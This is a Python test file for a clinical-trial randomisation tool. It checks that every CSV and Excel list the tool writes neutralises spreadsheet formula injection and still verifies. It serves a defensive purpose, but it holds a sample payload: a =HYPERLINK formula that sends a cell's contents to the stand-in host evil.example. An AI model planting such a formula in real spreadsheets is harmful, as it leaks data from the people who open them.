"""Formula injection (OWASP CSV injection): every list bitframe writes keeps ids as text, and
its readers give the original ids back, so lists still verify."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from bitframe.cli import main
from bitframe.spreadsheet import neutralise_cell, neutralise_frame, restore_cell, restore_frame

SMS = Path(__file__).resolve().parents[1] / "protocols" / "sms-link-worker.yaml"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2, "Click")'


@given(st.text())
def test_neutralising_is_reversible_and_never_starts_a_formula(value):
    safe = neutralise_cell(value)
    assert restore_cell(safe) == value
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_frames_neutralise_text_only():
    frame = pd.DataFrame({"id": ["=1+1", "'quoted", "@SUM(A1)", "plain"], "n": [-1, 2, 3, 4],
                          "arm": pd.Categorical(["-x", "a", "a", "-x"])})
    safe = neutralise_frame(frame)
    assert safe["id"].tolist() == ["'=1+1", "''quoted", "'@SUM(A1)", "plain"]
    assert safe["n"].tolist() == [-1, 2, 3, 4]  # numbers are numbers
    assert safe["arm"].tolist() == ["'-x", "a", "a", "'-x"]
    pd.testing.assert_frame_equal(restore_frame(safe), frame)


def test_hyperlink_id_stays_text_in_csv_and_xlsx_and_verifies(tmp_path, capsys):
    people = tmp_path / "people.csv"
    with people.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["participant_id", "practice"])
        writer.writerows([[HYPERLINK, "Elm Road"], ["+44 20", "Elm Road"], ["@cmd", "Hill Surgery"], ["P-4", "Riverside"]])
    out = tmp_path / "list.csv"
    assert main(["randomise", str(SMS), "-p", str(people), "-o", str(out), "--xlsx"]) == 0, capsys.readouterr()
    with out.open(newline="", encoding="utf-8") as fh:
        ids = [row[0] for row in csv.reader(fh)][1:]
    assert ids == ["'" + HYPERLINK, "'+44 20", "'@cmd", "P-4"]
    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
    cells = [cell for row in book["allocation"].iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or (isinstance(c.value, str) and c.value[:1] == "=")]
    assert book["allocation"]["A2"].value == "'" + HYPERLINK
    assert main(["verify", str(SMS), "-p", str(people), "--list", str(out)]) == 0, capsys.readouterr()


def test_the_excel_copy_verifies_and_a_changed_cell_is_found(tmp_path, capsys):
    people = tmp_path / "people.csv"
    people.write_text("participant_id,practice\n=1+1,Elm Road\nP-2,Elm Road\nP-3,Riverside\n", encoding="utf-8")
    out = tmp_path / "list.csv"
    assert main(["randomise", str(SMS), "-p", str(people), "-o", str(out), "--xlsx"]) == 0
    capsys.readouterr()
    assert main(["verify", str(SMS), "-p", str(people), "--list", str(tmp_path / "list.xlsx")]) == 0, capsys.readouterr()
    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
    sheet = book["allocation"]
    sheet["B2"] = "control" if sheet["B2"].value != "control" else "letter"
    book.save(tmp_path / "list.xlsx")
    assert main(["verify", str(SMS), "-p", str(people), "--list", str(tmp_path / "list.xlsx")]) == 1
    out_text = capsys.readouterr().out
    assert "list_sha256" in out_text and "NOT verified" in out_text


def formula_cells(folder: Path, *, skip: tuple[str, ...] = ()) -> list[str]:
    """Every cell of the CSV and XLSX files in ``folder`` that a spreadsheet would run as a formula:
    text starting with a trigger (a number such as -0.5 is a number), or an xlsx formula cell."""
    found = []
    for path in sorted(folder.glob("*.csv")):
        if path.name in skip:
            continue
        with path.open(newline="", encoding="utf-8") as fh:
            for r, row in enumerate(csv.reader(fh), start=1):
                for value in row:
                    if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        try:
                            float(value)
                        except ValueError:
                            found.append(f"{path.name} row {r}: {value!r}")
    for path in sorted(folder.glob("*.xlsx")):
        for sheet in openpyxl.load_workbook(path).worksheets:
            found += [f"{path.name}!{c.coordinate}: {c.value!r}" for row in sheet.iter_rows() for c in row
                      if c.data_type == "f" or (isinstance(c.value, str) and c.value[:1] == "=")]
    return found


def test_every_table_the_cli_writes_is_formula_safe(tmp_path, capsys):
    # Issue 14: lists, their Excel copy, simulated participants and outcomes and the effects table
    protocol = tmp_path / "sms.yaml"
    protocol.write_text(SMS.read_text(encoding="utf-8").replace("permutations: 2000", "permutations: 0"),
                        encoding="utf-8")
    simulated = tmp_path / "simulated.csv"
    assert main(["simulate", str(protocol), "--out", str(simulated), "--n", "120"]) == 0, capsys.readouterr()
    people = pd.read_csv(simulated, dtype=str, keep_default_na=False)
    people.loc[:4, "participant_id"] = [HYPERLINK, "+44 20 7946 0000", "@SUM(A1)", "-2+3", "=1+1"]
    people.to_csv(tmp_path / "people.csv", index=False)
    steps = [
        ["randomise", protocol, "-p", tmp_path / "people.csv", "-o", tmp_path / "list.csv", "--xlsx"],
        ["simulate", protocol, "--list", tmp_path / "list.csv", "--participants", tmp_path / "people.csv",
         "--out", tmp_path / "outcomes.csv"],
        ["analyse", protocol, "--list", tmp_path / "list.csv", "--outcomes", tmp_path / "outcomes.csv",
         "--csv", tmp_path / "effects.csv"],
    ]
    for step in steps:
        assert main([str(a) for a in step]) == 0, capsys.readouterr()
    written = {p.name for p in tmp_path.iterdir()}
    assert {"list.csv", "list.xlsx", "outcomes.csv", "effects.csv"} <= written
    assert formula_cells(tmp_path, skip=("people.csv",)) == []
    # the check finds what it looks for: the input written by hand has live formulas
    assert len(formula_cells(tmp_path)) == 5
    # the simulated outcomes keep the ids as the list wrote them, and analyse matched them all
    outcomes = pd.read_csv(tmp_path / "outcomes.csv", dtype=str, keep_default_na=False)
    assert outcomes["participant_id"].iloc[:5].tolist() == ["'" + HYPERLINK, "'+44 20 7946 0000", "'@SUM(A1)",
                                                           "'-2+3", "'=1+1"]
    assert "no row in the outcomes file" not in capsys.readouterr().out


cells_to_neutralise = st.lists(st.one_of(
    st.none(), st.text(max_size=4),
    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "é", " =", ""]), st.text(max_size=3)).map("".join),
), max_size=12)


@given(cells_to_neutralise, st.integers(0, 3))
def test_frames_neutralise_and_restore_as_their_cells_do(cells, cut):
    # neutralise_cell and restore_cell one cell at a time are the reference, for every text dtype (Arrow-backed
    # text in sliced chunks as the CSV reader gives it, Python-backed text, objects holding numbers, categories)
    import pyarrow as pa

    text = [c if c is not None else "" for c in cells]
    chunked = pa.chunked_array([pa.array(["x"] * cut + cells[: len(cells) // 2], pa.large_string()).slice(cut),
                                pa.array(cells[len(cells) // 2:], pa.large_string())])
    objects = [c if c is not None else -1.5 for c in cells]
    frame = pd.DataFrame({
        "arrow": pd.Series(pd.arrays.ArrowStringArray(chunked)),
        "python": pd.Series(text, dtype=pd.StringDtype("python")),
        # an object column holds text and numbers (one of numbers alone is not text to pandas' .str)
        "objects": pd.Series(objects if any(c is not None for c in cells) else text, dtype=object),
        "category": pd.Categorical(text),
        "number": range(len(cells)),
    })

    def values(column: pd.Series) -> list:
        return [None if v is pd.NA else v for v in column.astype(object)]

    def assert_cellwise(got: pd.DataFrame, original: pd.DataFrame, change) -> None:
        for name in original.columns:
            assert got[name].dtype == original[name].dtype or name == "category"  # its categories change
            assert values(got[name]) == [change(v) if isinstance(v, str) else v for v in values(original[name])]

    safe = neutralise_frame(frame)
    assert_cellwise(safe, frame, neutralise_cell)
    assert_cellwise(restore_frame(safe), safe, restore_cell)
    assert_cellwise(restore_frame(safe), frame, lambda v: v)
    # restoring text bitframe did not write (two categories could become one: not a list it wrote)
    text_only = frame.drop(columns="category")
    assert_cellwise(restore_frame(text_only), text_only, restore_cell)


def test_cells_starting_a_formula_are_found_by_their_first_byte():
    import numpy as np
    import pyarrow as pa

    from bitframe.spreadsheet import _NEEDS_QUOTE, _first_byte_in

    cells = ["", "=a", "a=", None, "'", "é=", "\t", "", "@"]
    expected = [False, True, False, False, True, False, True, False, True]
    for width in (pa.string(), pa.large_string()):
        text = pa.array(["=", *cells], width).slice(1)  # a slice: its first offset is not 0
        assert _first_byte_in(text, _NEEDS_QUOTE).tolist() == expected
    # a missing cell whose slot still holds text (Arrow allows it) is not text
    offsets = np.array([0, 2, 3], dtype=np.int32)
    held = pa.Array.from_buffers(pa.string(), 2, [pa.array([False, True]).buffers()[1], pa.py_buffer(offsets),
                                                  pa.py_buffer(b"=x=")])
    assert held.to_pylist() == [None, "="] and _first_byte_in(held, _NEEDS_QUOTE).tolist() == [False, True]
